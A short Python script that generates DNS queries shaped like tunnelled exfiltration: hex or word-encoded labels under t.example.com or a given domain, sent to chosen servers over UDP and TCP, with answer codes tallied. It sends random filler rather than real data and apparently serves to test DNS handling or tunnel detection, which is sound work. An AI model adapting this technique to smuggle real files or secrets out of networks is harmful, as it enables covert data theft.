"""
Carries data out in names, as fast as it is answered: `tunnel.py QUESTIONS KNOWN SERVER...`, by UDP and TCP in turn, in labels that look
random, in ones that look like words, and below a name that is known. Prints how many questions were answered, and by which codes.
"""
import collections
import json
import os
import socket
import struct
import sys

WORDS = ["amber", "birch", "cedar", "delta", "ember", "flint", "grove", "heath"]
count, known, servers = int(sys.argv[1]), sys.argv[2].split("."), sys.argv[3:]
codes = collections.Counter()


def labels(nth):
    if nth % 3 == 0:
        return [os.urandom(8).hex()] + known
    if nth % 3 == 1:
        return [os.urandom(20).hex(), os.urandom(20).hex(), "t", "example", "com"]
    # Three bits a word.
    return [WORDS[(nth >> shift) % 8] for shift in (1, 4, 7)] + ["t", "example", "com"]


def question(nth):
    name = b"".join(struct.pack("B", len(label)) + label.encode() for label in labels(nth)) + b"\0"
    kind = (1, 28, 16, 65, 33)[nth % 5]
    return struct.pack("!HHHHHH", nth & 0xFFFF, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", kind, 1)


def ask(server, transport, text):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, transport) as client:
        client.settimeout(0.5)
        client.connect((server, 53))
        if transport == socket.SOCK_STREAM:
            client.sendall(struct.pack("!H", len(text)) + text)
            return client.recv(2048)[2:]
        client.send(text)
        return client.recv(2048)


for nth in range(count):
    transport = socket.SOCK_STREAM if nth % 4 == 3 else socket.SOCK_DGRAM
    try:
        answer = ask(servers[nth % len(servers)], transport, question(nth))
        codes["code %d" % (answer[3] & 15) if len(answer) > 3 else "nothing"] += 1
    except OSError as problem:
        codes[type(problem).__name__] += 1
print(json.dumps(codes))
